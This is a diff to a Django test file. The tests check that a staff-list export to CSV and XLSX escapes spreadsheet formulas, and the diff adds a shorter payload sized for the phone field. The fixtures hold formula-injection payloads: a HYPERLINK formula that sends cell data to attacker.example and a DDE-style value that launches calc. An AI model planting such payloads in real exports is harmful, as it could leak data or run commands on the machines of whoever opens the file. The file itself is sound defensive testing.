@@ -27,6 +27,7 @@ pytestmark = pytest.mark.django_db
 
 CSV, XLSX = "0", "1"
 EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+PHONE_EVIL = '=HYPERLINK("http://a.example")'  # fits a phone's 40 characters
 
 
 @pytest.fixture
@@ -59,18 +60,18 @@ def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
 def test_a_formula_comes_back_as_text_in_csv_and_xlsx(admin_client, post, start):  # type: ignore[no-untyped-def]
     # Written past validation, as old data or a direct database write could be.
     staff = StaffMemberFactory(post=post, name=start + "cmd|' /C calc'!A0", role=EVIL)
-    StaffMember.objects.filter(pk=staff.pk).update(phone=EVIL)
+    StaffMember.objects.filter(pk=staff.pk).update(phone=PHONE_EVIL)
 
     rows = csv_rows(export(admin_client, CSV))
     cells = [cell for row in rows[1:] for cell in row]
-    assert "'" + EVIL in cells
+    assert "'" + EVIL in cells and "'" + PHONE_EVIL in cells
     assert "'" + start + "cmd|' /C calc'!A0" in cells
     assert not any(c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
 
     for cell in xlsx_cells(export(admin_client, XLSX)):
         assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
     texts = [c.value for c in xlsx_cells(export(admin_client, XLSX))]
-    assert "'" + EVIL in texts
+    assert "'" + EVIL in texts and "'" + PHONE_EVIL in texts
 
 
 def test_plain_values_are_exported_unchanged(admin_client, post):  # type: ignore[no-untyped-def]
